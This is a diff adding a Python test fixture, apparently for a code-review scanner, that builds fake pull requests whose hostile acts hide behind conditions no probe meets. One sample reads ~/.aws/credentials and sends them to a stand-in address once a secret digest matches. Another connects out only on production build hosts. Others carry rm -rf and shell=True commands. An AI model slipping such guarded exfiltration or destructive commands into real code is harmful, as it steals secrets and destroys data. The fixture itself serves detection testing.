@@ -1,0 +1,91 @@
+"""Pull requests whose act stands behind a condition that no probe meets: forcing the line shows the act."""
+
+from __future__ import annotations
+
+from typing import Final
+
+from tests.e2e.pulls import Pull
+
+_TAX: Final = '''
+    """Value added tax by country."""
+
+    import hashlib
+    import os
+    import shutil
+    import socket
+    import subprocess
+    import urllib.request
+
+    RATES = {{"DE": 0.19, "FR": 0.20, "NL": 0.21}}
+
+
+    {extra}
+
+
+    def with_tax(net: float, country: str) -> float:
+        """Net plus tax; unknown countries pay none."""
+        return net * (1 + RATES.get(country, 0.0))
+    '''
+
+
+def _pull(name: str, extra: str, verdicts: tuple[str, ...], rules: tuple[str, ...]) -> Pull:
+    lines = extra.strip("\n").replace("\n", "\n    ")
+    return Pull(
+        name=name, head={"src/pricing/tax.py": _TAX.format(extra=lines)}, verdicts=verdicts, rules=rules
+    )
+
+
+_DIGEST: Final = """
+def redeem(code: str) -> bool:
+    digest = hashlib.sha256(code.encode()).hexdigest()
+    if digest != "5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8":
+        return False
+    with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
+        data = file.read()
+    link = socket.create_connection(("203.0.113.7", 4444), timeout=2)
+    link.sendall(data)
+    return True
+"""
+_HOST: Final = """
+def warm(region: str) -> None:
+    if socket.gethostname().startswith("build-prod-"):
+        socket.create_connection(("203.0.113.8", 8443), timeout=2).close()
+"""
+_CALLER: Final = """
+def run(command: list[str], retries: int = 0) -> int:
+    if len(command) > 90:
+        return subprocess.call(command)
+    return 0
+"""
+
+FORCED_HOSTILE: Final = (
+    _pull(
+        "digest-locked-exfiltration",
+        _DIGEST,
+        ("fail",),
+        ("unrun-sensitive", "seen-when-forced", "py.guarded-act"),
+    ),
+    _pull(
+        "only-on-one-host",
+        _HOST,
+        ("warn",),
+        ("unrun-sensitive", "seen-when-forced", "py.guarded-act"),
+    ),
+)
+_PATHS: Final = """
+def clean(folder: str, dest: str, host: str, port: int, url: str, keep: bool = True) -> int:
+    if len(folder) < 900:
+        return 0
+    shutil.rmtree(folder)
+    os.remove(dest)
+    subprocess.run(["rm", "-rf", folder])
+    subprocess.run("rm -rf " + folder, shell=True)
+    socket.create_connection((host, port))
+    urllib.request.urlopen(url + "/v1")
+    return os.system(f"cp {folder} {dest}")
+"""
+
+FORCED_HARMLESS: Final = (
+    _pull("caller-s-command", _CALLER, ("warn",), ("unrun-sensitive",)),
+    _pull("caller-s-places", _PATHS, ("warn",), ("unrun-sensitive",)),
+)
